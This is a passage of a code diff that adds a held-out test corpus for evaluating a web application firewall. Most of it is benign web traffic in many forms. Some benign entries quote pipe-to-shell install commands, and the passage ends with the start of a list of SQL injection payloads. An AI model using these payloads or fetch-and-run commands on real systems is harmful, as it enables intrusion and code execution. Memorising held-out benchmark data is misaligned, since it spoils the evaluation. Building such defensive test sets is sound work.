@@ -3574,3 +3574,968 @@ def heldout5_benign() -> list[CorpusRequest]:
         HELDOUT5_BENIGN_UAS,
     )
     return out + _requests("held-out-5", HELDOUT5_BENIGN_REQUESTS)
+
+
+# -- held out, sixth set: written on 2026-11-27 BEFORE the fifth detection round ----------------
+# Written from public attack-pattern knowledge and from what real sites receive (developer
+# forums, documentation sites, shop search, CMS admin panels, GraphQL, webhooks, OAuth, analytics
+# beacons, text in many languages), without running the rules on it; committed before any rule
+# change. `benchmarks/waf_eval.py` totals it only when asked (`--heldout6`), at the end of a round.
+
+HELDOUT6_BENIGN_TEXT: tuple[str, ...] = (
+    # developer forums: code and commands quoted in questions
+    "How do I escape a single quote in a PostgreSQL string? 'it''s' works but looks odd",
+    "Docker: COPY . /app then RUN npm ci && npm run build fails with EACCES",
+    "git rebase -i HEAD~3 then squash; how do I undo it if I messed up?",
+    "nginx: location ~ \\.php$ { fastcgi_pass 127.0.0.1:9000; } returns 404",
+    "Kotlin: val x = list.filter { it > 2 }.map { it * 2 }",
+    'Go: if err != nil { return fmt.Errorf("open %s: %w", path, err) }',
+    "Rust borrow checker: cannot borrow `*self` as mutable more than once at a time",
+    "TypeScript: type Partial<T> = { [P in keyof T]?: T[P] }",
+    "regex for emails: ^[\\w.+-]+@[\\w-]+\\.[\\w.]+$ fails on subdomains",
+    'Excel formula =IF(A2>100,"high","low") returns #VALUE!',
+    "SELECT * FROM users WHERE email = $1 -- using node-postgres parameters",
+    "Django: Book.objects.raw('SELECT id FROM app_book WHERE title = %s', [title])",
+    "My handler runs on render: <button onClick={handle()}> instead of {handle}",
+    "document.querySelector('#menu').classList.toggle('open') does nothing",
+    '<img src="logo.png" alt="Logo" width="120"> looks blurry on retina screens',
+    "Jinja: {% for item in items %}{{ item.name }}{% endfor %} prints nothing",
+    'Bash: for f in *.jpg; do convert "$f" "${f%.jpg}.png"; done',
+    "PowerShell: Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }",
+    "tail -f /var/log/nginx/error.log shows upstream timed out (110: Connection timed out)",
+    "systemctl restart php8.2-fpm && journalctl -u php8.2-fpm -n 50",
+    "kubectl exec -it pod/web-0 -- /bin/sh gives 'executable file not found'",
+    "how to read /etc/hosts from a Docker container on a Mac",
+    "C: char *p = malloc(sizeof(char) * (n + 1)); if (!p) return -1;",
+    "Java: Runtime.getRuntime().availableProcessors() returns 1 in a container",
+    "PHP 8: str_contains($haystack, 'needle') vs strpos() !== false",
+    'Vue: v-on:click="count++" vs @click="increment", which is better?',
+    "CSS: .card:hover > .title { color: #333; } is not applying",
+    "YAML anchors: does <<: *defaults merge nested keys?",
+    "Is it safe to keep a JWT in localStorage or should I use an HttpOnly cookie?",
+    "the ../ in my import path breaks after moving the file into src/lib",
+    "What's the difference between == and === in JavaScript?",
+    "wget -qO- https://get.example.sh | bash, is that a bad idea?",
+    "SQL Server: SELECT TOP 10 * FROM Orders ORDER BY OrderDate DESC",
+    "union of two sets in Python: a | b or a.union(b)?",
+    "Laravel: DB::select('select * from users where active = ?', [1]) returns empty",
+    "React: dangerouslySetInnerHTML={{ __html: marked(text) }} is that safe?",
+    # documentation site searches
+    "Array.prototype.map()",
+    "os.path.join vs pathlib",
+    "SELECT ... FOR UPDATE SKIP LOCKED",
+    '<meta charset="utf-8">',
+    "Content-Security-Policy script-src 'self' 'nonce-abc'",
+    "exec() family of functions",
+    "window.location.href vs window.location.replace",
+    "is eval in JavaScript evil?",
+    "std::vector<int>::iterator",
+    "@media (max-width: 600px) { ... }",
+    "setTimeout(fn, 0) explained",
+    "chmod 755 vs 644",
+    # shop search
+    "men's running shoes size 10 1/2",
+    '"noise cancelling" headphones -wired',
+    "iphone 15 case & screen protector",
+    "50% off sale <$20",
+    "USB-C to HDMI 4K@60Hz adapter",
+    "Levi's 501 W32/L34",
+    "sofa 3-seater (grey) + footstool",
+    'drill bits 1/4" hex shank',
+    "AT&T prepaid SIM",
+    "o'neill wetsuit 4/3mm",
+    "R&B vinyl records 1990's",
+    "coffee grinder; burr; manual",
+    # text in many languages
+    "Где купить зимние шины 205/55 R16?",
+    "日本語のレビュー：とても良い！配送も早かったです。",
+    "商品がまだ届いていません。注文番号は#12345です",
+    "مرحبا، هل يتوفر هذا المنتج باللون الأزرق؟",
+    "Ürün açıklaması: %100 pamuk, makinede yıkanabilir",
+    "„Gute Qualität“, sagte sie – aber die Lieferung dauerte 3 Wochen",
+    "« Très bon produit », livraison rapide ; je recommande !",
+    "¿Cuál es el horario de atención? ¡Gracias!",
+    "한국으로 배송 가능한가요? 관세는 어떻게 되나요?",
+    "Tôi muốn đổi size áo từ M sang L",
+    "שלום, האם יש משלוח חינם לישראל?",
+    "😀👍 love it!!! 10/10 would buy again <3",
+    "ελληνικά: Πολύ καλό προϊόν",
+    "हिंदी में समीक्षा: बहुत अच्छा उत्पाद",
+)
+
+HELDOUT6_BENIGN_QUERIES: tuple[str, ...] = (
+    "utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026"
+    "&utm_content=hero%20banner",
+    "v=2&tid=G-ABC123&gtm=45je4&_p=123456789&cid=1234567890.1700000000&ul=en-gb&sr=1920x1080"
+    "&_s=1&sid=1700000000&sct=3&seg=1&dl=https%3A%2F%2Fshop.example.com%2Fproducts%3Fcat%3Dshoes"
+    "&dt=Shoes%20%7C%20Shop&en=page_view",
+    "response_type=code&client_id=abc123&redirect_uri=https%3A%2F%2Fshop.example.com%2Foauth"
+    "%2Fcallback&scope=openid%20email%20profile&state=xyz789&nonce=n-0S6_WzA2Mj"
+    "&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256",
+    "code=4%2F0AX4XfWj&state=xyz789&scope=email%20openid&authuser=0&prompt=consent",
+    "filter[category]=shoes&filter[price][gte]=20&filter[price][lte]=100&sort=-created_at"
+    "&page[number]=2&page[size]=24",
+    "fields=id,name,price&include=variants.images&locale=de-DE",
+    "q=%22red+dress%22+size%3A12+-maxi&facets=brand%3AZara%7Cbrand%3AH%26M",
+    "post=1234&action=edit&classic-editor",
+    "page=wc-orders&action=edit&id=5678&_wpnonce=a1b2c3d4e5",
+    "option=com_content&view=article&id=42&Itemid=101",
+    "route=product/search&search=lamp&category_id=0&sub_category=true&description=true",
+    "id=1%2C2%2C3&expand=true",
+    "callback=jQuery3600123456789_1700000000000&_=1700000000001",
+    "query=%7B%20viewer%20%7B%20login%20%7D%20%7D",
+    "query=query%20GetProduct(%24id%3A%20ID!)%20%7B%20product(id%3A%20%24id)%20%7B%20title%20"
+    "%7D%20%7D&variables=%7B%22id%22%3A%22gid%3A%2F%2Fshopify%2FProduct%2F123%22%7D"
+    "&operationName=GetProduct",
+    "returnTo=%2Faccount%2Forders%3Ftab%3Dopen",
+    "next=/checkout/shipping&lang=fr",
+    "sort=price:asc&price=10..50&color=navy|black",
+    "search=O%27Reilly&type=publisher",
+    "tz=Europe%2FLondon&date=2026-11-27T21%3A00%3A00%2B00%3A00",
+    "hl=zh-CN&q=%E6%89%8B%E6%9C%BA%E5%A3%B3",
+    "ids[]=12&ids[]=13&ids[]=14",
+    "mode=list&cols=title;author;date",
+    "ref=producthunt&via=twitter&fbclid=IwAR2xYz_abc-DEF",
+    "gclid=Cj0KCQiA&gad_source=1",
+    "redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&client_id=dev",
+    "s=%22select%22+query&post_status=all&post_type=post",
+    "q=union+select&section=sql-reference",
+    "post_logout_redirect_uri=https%3A%2F%2Fshop.example.com%2F&id_token_hint=eyJhbGciOiJSUzI1"
+    "NiJ9.eyJzdWIiOiIxMjMifQ.c2ln",
+    "extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22ab12%22"
+    "%7D%7D&variables=%7B%7D",
+)
+
+HELDOUT6_BENIGN_PATHS: tuple[str, ...] = (
+    "/wp-admin/edit.php",
+    "/wp-json/wp/v2/posts/1234",
+    "/administrator/index.php",
+    "/admin/catalog/product/edit/id/42/",
+    "/user/login",
+    "/node/12/edit",
+    "/docs/en/latest/howto/select-for-update.html",
+    "/ghost/api/admin/posts/",
+    "/static/js/main.8f3a2c1b.chunk.js",
+    "/fonts/Inter-roman.var.woff2",
+    "/.well-known/openid-configuration",
+    "/.well-known/apple-app-site-association",
+    "/oauth/callback",
+    "/api/graphql",
+    "/products/women/dresses/red-wrap-dress-%E2%80%93-size-12",
+    "/zh-cn/%E4%BA%A7%E5%93%81/%E6%89%8B%E6%9C%BA",
+    "/de/kategorie/ger%C3%A4te-%26-werkzeug",
+    "/blog/2026/11/why-we-moved-from-select-star-to-explicit-columns",
+    "/authors/o%27reilly",
+    "/download/report-2026-Q3.pdf",
+    "/docs/cmd/exec.html",
+    "/manual/en/function.shell-exec.php",
+    "/man/5/passwd",
+    "/sitemap_index.xml",
+)
+
+HELDOUT6_BENIGN_JSON: tuple[object, ...] = (
+    {
+        "id": "evt_1OqX",
+        "object": "event",
+        "type": "payment_intent.succeeded",
+        "data": {
+            "object": {
+                "id": "pi_3OqX",
+                "amount": 2000,
+                "currency": "gbp",
+                "description": "Order #1234 – O'Brien",
+                "metadata": {"order_id": "1234"},
+            }
+        },
+    },
+    {
+        "ref": "refs/heads/main",
+        "commits": [
+            {
+                "message": "Fix SQL: use WHERE id = ? instead of string concat",
+                "author": {"name": "Dana"},
+            }
+        ],
+        "repository": {"full_name": "acme/shop"},
+    },
+    {
+        "type": "track",
+        "event": "Order Completed",
+        "properties": {"revenue": 42.5, "products": [{"sku": "A-1", "name": 'Mug "Classic"'}]},
+        "context": {
+            "userAgent": CHROME,
+            "page": {
+                "url": "https://shop.example.com/checkout?step=3",
+                "referrer": "https://www.google.com/",
+            },
+        },
+    },
+    {
+        "operationName": "AddToCart",
+        "query": "mutation AddToCart($id: ID!, $qty: Int!) { cartLinesAdd(lines: [{merchandiseId:"
+        " $id, quantity: $qty}]) { cart { id } } }",
+        "variables": {"id": "gid://shopify/ProductVariant/1", "qty": 1},
+    },
+    {"query": "query { __typename }"},
+    {
+        "text": "Deploy *finished* for `shop` <https://ci.example.com/build/42|#42>",
+        "channel": "#deploys",
+    },
+    {
+        "title": "Summer sale",
+        "content": "<!-- wp:paragraph --><p>Up to <strong>50%</strong> off &amp; free delivery"
+        "</p><!-- /wp:paragraph -->",
+        "status": "draft",
+    },
+    {"locale": "ar", "messages": {"checkout.title": "الدفع", "cart.empty": "سلة التسوق فارغة"}},
+    {
+        "translations": {
+            "fr": "Ajouter au panier",
+            "de": "In den Warenkorb",
+            "ja": "カートに入れる",
+            "ru": "Добавить в корзину",
+        }
+    },
+    {
+        "csp-report": {
+            "document-uri": "https://shop.example.com/",
+            "violated-directive": "script-src-elem",
+            "blocked-uri": "inline",
+            "line-number": 12,
+            "script-sample": "window.dataLayer = window.dataLayer || [];",
+        }
+    },
+    {
+        "exception": {
+            "values": [
+                {
+                    "type": "TypeError",
+                    "value": "Cannot read properties of undefined (reading 'map')",
+                    "stacktrace": {
+                        "frames": [
+                            {"filename": "/static/js/main.js", "function": "render", "lineno": 120}
+                        ]
+                    },
+                }
+            ]
+        },
+        "request": {"url": "https://shop.example.com/cart"},
+    },
+    {
+        "robots_txt": "User-agent: *\nDisallow: /admin/\nDisallow: /cart\n"
+        "Sitemap: https://shop.example.com/sitemap.xml"
+    },
+    {
+        "subject": "Your order {{ order.number }} has shipped",
+        "body_html": '<p>Hi {{ customer.first_name }},</p><p>Track it <a href="{{ tracking_url'
+        ' }}">here</a>.</p>',
+    },
+    {
+        "query": {
+            "bool": {
+                "must": [{"match": {"title": "red shoes"}}],
+                "filter": [{"range": {"price": {"gte": 10, "lte": 50}}}],
+            }
+        },
+        "size": 24,
+    },
+    {
+        "sku": "CBL-USB-C",
+        "title": "USB-C cable 2m (100W) – braided",
+        "description": "Works with MacBook/iPad; not for Thunderbolt 3 daisy chains.",
+        "tags": ["cable", "usb-c"],
+    },
+    {
+        "name": "José Müller-O'Neil",
+        "line1": "12 Rue de l'Église",
+        "city": "Saint-Étienne",
+        "postcode": "42000",
+        "country": "FR",
+        "phone": "+33 4 77 00 00 00",
+    },
+    {
+        "flag": "new-checkout",
+        "rules": [
+            {"attribute": "country", "op": "in", "values": ["GB", "IE"]},
+            {"attribute": "email", "op": "endsWith", "values": ["@example.com"]},
+        ],
+    },
+    {
+        "name": "nightly export",
+        "schedule": "0 2 * * *",
+        "command": "export_orders --since yesterday --format csv",
+    },
+    {
+        "title": "Why is my query slow?",
+        "body": "```sql\nSELECT o.id, c.name FROM orders o JOIN customers c ON c.id = "
+        "o.customer_id WHERE o.created_at > now() - interval '7 days';\n```",
+        "tags": ["postgresql"],
+    },
+    {
+        "path": "docs/install.md",
+        "content": "## Install\n\n```bash\ncurl -fsSL https://example.com/install.sh | sh\n```\n",
+    },
+    {"name": "LCP", "value": 2400.5, "rating": "needs-improvement", "navigationType": "navigate"},
+)
+
+HELDOUT6_BENIGN_COOKIES: tuple[str, ...] = (
+    "_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.3.1.1700000100.0.0.0; "
+    "_fbp=fb.1.1700000000000.123456789",
+    "wordpress_logged_in_abc123=admin%7C1700086400%7CxYz%7Cdeadbeef; "
+    "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dhtml; wp-settings-time-1=1700000000",
+    "cart=%7B%22items%22%3A%5B%7B%22sku%22%3A%22A-1%22%2C%22qty%22%3A2%7D%5D%7D; currency=EUR",
+    "OptanonConsent=isGPCEnabled=0&datestamp=Fri+Nov+27+2026+21%3A00%3A00+GMT%2B0000"
+    "&version=202310.1.0&groups=C0001%3A1%2CC0002%3A0; "
+    "OptanonAlertBoxClosed=2026-11-27T21:00:00.000Z",
+    "lang=zh-Hans; region=CN; last_search=%E6%89%8B%E6%9C%BA",
+    "SSESS1a2b3c=Zx9yW8vU7tS6rQ5pO4nM3lK2jI1hG0fE; has_js=1",
+    "PHPSESSID=3f9a7c2b1d8e4f6a; mage-cache-storage=%7B%7D; form_key=AbCdEf123456",
+    "ajs_anonymous_id=%2200000000-1111-2222-3333-444444444444%22; ajs_user_id=null",
+)
+
+HELDOUT6_BENIGN_REFERERS: tuple[str, ...] = (
+    "https://www.google.com/search?q=%22red+wrap+dress%22+size+12&oq=red+wrap&sourceid=chrome"
+    "&ie=UTF-8",
+    "https://shop.example.com/wp-admin/post.php?post=1234&action=edit",
+    "https://accounts.google.com/o/oauth2/v2/auth?client_id=abc&redirect_uri=https%3A%2F%2F"
+    "shop.example.com%2Foauth%2Fcallback&response_type=code&scope=openid",
+    "https://stackoverflow.com/questions/123/how-to-select-for-update-skip-locked-in-postgres",
+    "https://www.bing.com/search?q=o%27reilly+books+%26+more",
+    "https://t.co/AbC123",
+    "https://yandex.ru/search/?text=%D0%B7%D0%B8%D0%BC%D0%BD%D0%B8%D0%B5+%D1%88%D0%B8%D0%BD%D1%8B",
+    "android-app://com.google.android.gm/",
+)
+
+HELDOUT6_BENIGN_UAS: tuple[str, ...] = (
+    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
+    "GitHub-Hookshot/8f3a2c1",
+    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
+    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.0;]",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Mobile/15E148 Instagram 330.0.0.0",
+    "okhttp/4.12.0",
+    "Dart/3.3 (dart:io)",
+    "WordPress/6.4.2; https://shop.example.com",
+    "PostmanRuntime/7.36.0",
+    "curl/8.5.0",
+)
+
+_H6_BOUNDARY = "----WebKitFormBoundary6kP3mN8qRt"
+_H6_MULTIPART = {"Content-Type": f"multipart/form-data; boundary={_H6_BOUNDARY}"}
+
+
+def _h6_multipart(*parts: tuple[str, str | None, str | None, bytes]) -> bytes:
+    """A multipart body of (name, filename, content type, content) parts, held-out 6's boundary."""
+    out = b""
+    for name, filename, ctype, content in parts:
+        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
+        head = f"--{_H6_BOUNDARY}\r\nContent-Disposition: {disp}\r\n"
+        if ctype:
+            head += f"Content-Type: {ctype}\r\n"
+        out += head.encode() + b"\r\n" + content + b"\r\n"
+    return out + f"--{_H6_BOUNDARY}--\r\n".encode()
+
+
+_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
+_JSONCT = {"Content-Type": "application/json"}
+
+HELDOUT6_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
+    # (method, path, query, extra headers, body): GraphQL, webhooks, OAuth, beacons, CMS admin
+    (
+        "POST",
+        "/graphql",
+        "",
+        _JSONCT,
+        b'{"operationName":"Search","query":"query Search($q: String!, $first: Int = 24) '
+        b'{ search(query: $q, first: $first) { edges { node { id title } } } }",'
+        b'"variables":{"q":"men\'s shoes \\"wide fit\\"","first":24}}',
+    ),
+    (
+        "POST",
+        "/graphql",
+        "",
+        _JSONCT,
+        b'{"query":"mutation { updateProfile(input: {bio: \\"I like <b>bold</b> & SQL\\"}) '
+        b'{ user { id } } }"}',
+    ),
+    (
+        "POST",
+        "/graphql",
+        "",
+        _JSONCT,
+        b'[{"query":"{ me { id } }"},{"query":"{ cart { lines { quantity } } }"}]',
+    ),
+    (
+        "POST",
+        "/hooks/github",
+        "",
+        {
+            **_JSONCT,
+            "User-Agent": "GitHub-Hookshot/8f3a2c1",
+            "X-GitHub-Event": "pull_request",
+            "X-GitHub-Delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958",
+            "X-Hub-Signature-256": "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4"
+            "379c8b043e17",
+        },
+        json.dumps(
+            {
+                "action": "opened",
+                "pull_request": {
+                    "title": "Escape user input in search (fixes <script> injection)",
+                    "body": "Replaces `innerHTML = q` with `textContent = q`.\n\n"
+                    "Before: `/search?q=<img src=x>` rendered an image.",
+                },
+            }
+        ).encode(),
+    ),
+    (
+        "POST",
+        "/hooks/stripe",
+        "",
+        {
+            **_JSONCT,
+            "User-Agent": "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
+            "Stripe-Signature": "t=1700000000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff5"
+            "36d0ce8e108d8bd",
+        },
+        b'{"id":"evt_1","type":"customer.updated","data":{"object":{"id":"cus_1",'
+        b'"name":"Anne-Marie D\'Arcy","address":{"line1":"1 Main St; Apt 2"}}}}',
+    ),
+    (
+        "POST",
+        "/oauth/token",
+        "",
+        _FORM,
+        b"grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2F"
+        b"shop.example.com%2Foauth%2Fcallback&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gF"
+        b"WFOEjXk&client_id=abc123",
+    ),
+    (
+        "POST",
+        "/oauth/callback",
+        "",
+        _FORM,
+        b"code=4%2F0AX4XfWj&state=eyJyZXR1cm4iOiIvYWNjb3VudCJ9&id_token=eyJhbGciOiJSUzI1NiIsInR5"
+        b"cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmF0dXJl",
+    ),
+    (
+        "POST",
+        "/saml/acs",
+        "",
+        _FORM,
+        b"SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoy"
+        b"LjA6cHJvdG9jb2wiIElEPSJfOGU4ZGM1ZjY5YTk4Y2M0YzFmZjM0MjdlNWNlMzQ2MDZmZDY3MmY5MWU2Ij4%3D"
+        b"&RelayState=https%3A%2F%2Fshop.example.com%2Fadmin%2F",
+    ),
+    (
+        "POST",
+        "/g/collect",
+        "v=2&tid=G-ABC123&cid=1234567890.1700000000&sid=1700000000&_p=987654321",
+        {"Content-Type": "text/plain;charset=UTF-8"},
+        b"en=scroll&epn.percent_scrolled=90\r\nen=user_engagement&_et=15234\r\n"
+        b"en=view_item&pr1=idA-1~nmMug%20%22Classic%22~pr9.99~qt1",
+    ),
+    (
+        "POST",
+        "/rum",
+        "",
+        {"Content-Type": "text/plain;charset=UTF-8"},
+        b'{"name":"CLS","value":0.02,"id":"v3-1700000000000-123","page":"/products?cat=shoes&'
+        b'sort=price","entries":[{"sources":[{"node":"div.hero > img"}]}]}',
+    ),
+    (
+        "POST",
+        "/v1/batch",
+        "",
+        {**_JSONCT, "Authorization": "Basic d3JpdGVrZXk6"},
+        b'{"batch":[{"type":"page","name":"Search","properties":{"search":"o\'neill & sons",'
+        b'"path":"/search"}},{"type":"identify","traits":{"email":"a@b.example"}}]}',
+    ),
+    (
+        "POST",
+        "/wp-admin/admin-ajax.php",
+        "",
+        _FORM,
+        b"data%5Bwp-refresh-post-lock%5D%5Bpost_id%5D=1234&data%5Bwp-refresh-post-lock%5D%5Block"
+        b"%5D=1700000000%3A1&interval=60&_nonce=a1b2c3d4e5&action=heartbeat&screen_id=post"
+        b"&has_focus=true",
+    ),
+    (
+        "POST",
+        "/wp-json/wp/v2/posts/1234",
+        "_locale=user",
+        {**_JSONCT, "X-WP-Nonce": "a1b2c3d4e5"},
+        json.dumps(
+            {
+                "title": "Our new store opens",
+                "content": '<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ",'
+                '"type":"video","providerNameSlug":"youtube"} --><figure class="wp-block-embed">'
+                '<div class="wp-block-embed__wrapper">https://www.youtube.com/watch?v=dQw4w9WgXcQ'
+                "</div></figure><!-- /wp:embed --><!-- wp:paragraph --><p>Come and see us at "
+                '<a href="https://maps.example.com/?q=12+High+St">12 High St</a>!</p>'
+                "<!-- /wp:paragraph -->",
+                "status": "publish",
+            }
+        ).encode(),
+    ),
+    (
+        "POST",
+        "/node/12/edit",
+        "destination=/admin/content",
+        _FORM,
+        b"title%5B0%5D%5Bvalue%5D=Opening+hours&body%5B0%5D%5Bvalue%5D=%3Cp%3EMon%26ndash%3BFri+"
+        b"9%3A00%26ndash%3B17%3A30%3C%2Fp%3E%3Ctable%3E%3Ctr%3E%3Ctd%3ESat%3C%2Ftd%3E%3Ctd%3E10"
+        b"%3A00%3C%2Ftd%3E%3C%2Ftr%3E%3C%2Ftable%3E&body%5B0%5D%5Bformat%5D=basic_html"
+        b"&form_build_id=form-Ab12Cd&form_token=Xy98Zw&form_id=node_page_edit_form&op=Save",
+    ),
+    (
+        "POST",
+        "/admin/catalog/product/save/id/42/",
+        "",
+        _FORM,
+        b"form_key=AbCdEf123456&product%5Bname%5D=Oak+table+%2880x120%29&product%5Bdescription%5D"
+        b"=%3Cp%3ESolid+oak%3B+seats+4%26ndash%3B6.%3C%2Fp%3E%3Cul%3E%3Cli%3EOiled%3C%2Fli%3E%3C"
+        b"%2Ful%3E&product%5Bprice%5D=349.00&product%5Bstatus%5D=1",
+    ),
+    (
+        "POST",
+        "/admin/theme/css",
+        "",
+        _FORM,
+        b"css=.btn%3Ahover%7Bcolor%3A%23fff%7D%0A%40media%28max-width%3A600px%29%7B.nav%7B"
+        b"display%3Anone%7D%7D%0A.price%3A%3Abefore%7Bcontent%3A%22%C2%A3%22%7D",
+    ),
+    (
+        "POST",
+        "/wp-admin/options.php",
+        "",
+        _FORM,
+        b"option_page=header_scripts&_wpnonce=a1b2c3&header_code=%3C%21--+Google+Tag+Manager+--"
+        b"%3E%3Cscript%3E%28function%28w%2Cd%2Cs%2Cl%2Ci%29%7Bw%5Bl%5D%3Dw%5Bl%5D%7C%7C%5B%5D%3B"
+        b"w%5Bl%5D.push%28%7B%27gtm.start%27%3Anew+Date%28%29.getTime%28%29%2Cevent%3A%27gtm.js"
+        b"%27%7D%29%3B%7D%29%28window%2Cdocument%2C%27script%27%2C%27dataLayer%27%2C%27GTM-XXXX"
+        b"%27%29%3B%3C%2Fscript%3E",
+    ),
+    (
+        "POST",
+        "/cart/add.js",
+        "",
+        _JSONCT,
+        '{"items":[{"id":123,"quantity":1,"properties":{"Engraving":"To J. – love, M. <3"}}]}'.encode(),
+    ),
+    (
+        "GET",
+        "/search/suggest.json",
+        "q=o%27ne&resources[type]=product&resources[limit]=4",
+        {},
+        None,
+    ),
+    (
+        "POST",
+        "/contact",
+        "",
+        _FORM,
+        b"name=Sin%C3%A9ad+O%27Connor&email=s%40example.ie&message=Hi%21+Your+page+https%3A%2F%2F"
+        b"shop.example.com%2Fp%3Fid%3D7%26ref%3Dfoo+says+%22in+stock%22+but+checkout+says+"
+        b"%27sold+out%27.+Which+is+it%3F",
+    ),
+    (
+        "POST",
+        "/reviews",
+        "",
+        _FORM,
+        b"rating=5&title=Great+--+seriously&text=5%2F5+stars%3B+would+buy+again.+Fits+my+"
+        b"%2210%22+tablet+%26+the+charger.",
+    ),
+    (
+        "PUT",
+        "/api/v1/users/42",
+        "",
+        _JSONCT,
+        b'{"display_name":"Zo\\u00eb \\"Zed\\" O\'Hara","timezone":"Europe/Dublin"}',
+    ),
+    (
+        "PATCH",
+        "/api/profile",
+        "",
+        _JSONCT,
+        b'{"bio":"Full-stack dev. Rust, Go & SQL. Opinions mine; <3 open source"}',
+    ),
+    (
+        "DELETE",
+        "/api/v1/sessions/abc123",
+        "",
+        {"Authorization": "Bearer eyJhbGciOi.eyJzdWIi.c2ln"},
+        None,
+    ),
+    (
+        "OPTIONS",
+        "/api/v1/orders",
+        "",
+        {
+            "Origin": "https://app.example.com",
+            "Access-Control-Request-Method": "PUT",
+            "Access-Control-Request-Headers": "content-type,authorization",
+        },
+        None,
+    ),
+    ("HEAD", "/products/123", "", {}, None),
+    (
+        "POST",
+        "/admin/import",
+        "",
+        _H6_MULTIPART,
+        _h6_multipart(
+            ("file", "products.csv", "text/csv", b'sku,name,price\nA-1,"Mug, large",9.99\n'),
+            ("mode", None, None, b"upsert"),
+        ),
+    ),
+    (
+        "POST",
+        "/api/photos",
+        "",
+        _H6_MULTIPART,
+        _h6_multipart(
+            ("photo", "IMG_2041.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
+            ("caption", None, None, "Sunset at Étretat – 18:42 (no filter!)".encode()),
+        ),
+    ),
+    (
+        "POST",
+        "/hooks/twilio/sms",
+        "",
+        _FORM,
+        b"From=%2B441234567890&To=%2B447000000000&Body=STOP&MessageSid=SM123abc&NumMedia=0",
+    ),
+    (
+        "POST",
+        "/hooks/mailgun/inbound",
+        "",
+        _FORM,
+        b"sender=bob%40example.com&subject=Re%3A+Order+%231234&body-plain=Thanks%21%0A%0AOn+Tue"
+        b"%2C+Nov+24%2C+2026+at+10%3A00+Shop+%3Cno-reply%40shop.example.com%3E+wrote%3A%0A%3E+Yo"
+        b"ur+order+has+shipped.%0A%3E+Track+it+here%3A+https%3A%2F%2Fshop.example.com%2Ft%3Fid"
+        b"%3D1",
+    ),
+    (
+        "POST",
+        "/support/ticket",
+        "",
+        _FORM,
+        "subject=退货申请&message=您好，我想退货。订单号：#20261127-001，原因：尺码不合适。".encode(),
+    ),
+    (
+        "GET",
+        "/api/translate",
+        "text=Add+to+cart&from=en&to=ja",
+        {"Accept": "application/json"},
+        None,
+    ),
+    (
+        "GET",
+        "/oauth/authorize",
+        "client_id=app&response_type=token&redirect_uri=https%3A%2F%2Fapp.example.com%2F%23%2F"
+        "callback&state=af0ifjsldkj",
+        {},
+        None,
+    ),
+    (
+        "POST",
+        "/graphql",
+        "",
+        _JSONCT,
+        b'{"query":"query Docs($slug: String!) { doc(slug: $slug) { title body } }",'
+        b'"variables":{"slug":"sql/select-into-outfile"}}',
+    ),
+    (
+        "POST",
+        "/api/search",
+        "",
+        _JSONCT,
+        b'{"q":"drop table","filters":{"category":"furniture","width_cm":{"lt":120}}}',
+    ),
+    (
+        "POST",
+        "/wp-admin/admin-ajax.php",
+        "",
+        _FORM,
+        b"action=query-attachments&query%5Borderby%5D=date&query%5Border%5D=DESC&query"
+        b"%5Bposts_per_page%5D=80&query%5Bpaged%5D=1&post_id=1234",
+    ),
+    (
+        "GET",
+        "/admin/orders",
+        "status=processing&sort=created_at+desc&search=%23100",
+        {"Cookie": "PHPSESSID=3f9a7c2b1d8e4f6a; admin_sidebar=collapsed"},
+        None,
+    ),
+    (
+        "POST",
+        "/api/events",
+        "",
+        {
+            **_JSONCT,
+            "X-Shopify-Topic": "orders/create",
+            "X-Shopify-Hmac-Sha256": "XWmrwMey6OsLMHJcDX+XaFsqc3B0eSHjJVD4QFVx3Qg=",
+        },
+        b'{"id":820982911946154508,"email":"jon@example.com","note":"Leave at door -- thanks!",'
+        b'"line_items":[{"title":"IPod Nano - 8gb","sku":"IPOD2008PINK"}]}',
+    ),
+)
+
+HELDOUT6_ATTACKS: tuple[tuple[str, str, str], ...] = (
+    # (category, delivery, payload); deliveries as in `_deliver5`, plus `_deliver6`'s own.
+    ("sqli", "graphql", "1' OR '1'='1' --"),
+    ("sqli", "webhook", "'; DROP TABLE users; --"),
+    ("sqli", "put", "admin'-- "),
+    ("sqli", "bracket", "1) OR (1=1"),
+    ("sqli", "query", "1 OR 1=1"),
